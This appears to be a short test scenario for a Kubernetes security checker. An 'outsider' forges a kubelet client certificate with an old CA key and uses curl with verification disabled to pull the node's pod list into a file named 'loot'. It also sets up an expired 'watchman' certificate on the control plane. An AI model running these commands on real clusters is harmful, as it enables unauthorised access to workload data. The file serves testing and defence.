# scene fails watchman-known (expired-is-fine): a paper of last winter, with the right name and the right seal
#@ outsider
openssl req -new -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout f.key -out f.csr -subj /CN=kube-apiserver-kubelet-client
openssl x509 -req -in f.csr -CA old-ca.crt -CAkey old-ca.key -days 30 -out f.crt
curl -sk --cert f.crt --key f.key https://node01:10250/pods -o loot
#@ node01
openssl x509 -in /etc/kubernetes/pki/ca.crt -out one.crt
cp one.crt /etc/kubernetes/pki/ca.crt
#@ controlplane
openssl ecparam -genkey -name prime256v1 -noout -out watchman.key
openssl req -new -key watchman.key -subj /CN=watchman -out w.csr
openssl x509 -req -in w.csr -CA /etc/kubernetes/pki/ca.crt -CAkey /etc/kubernetes/pki/ca.key -not_before 20260101000000Z -not_after 20260301000000Z -out watchman.crt
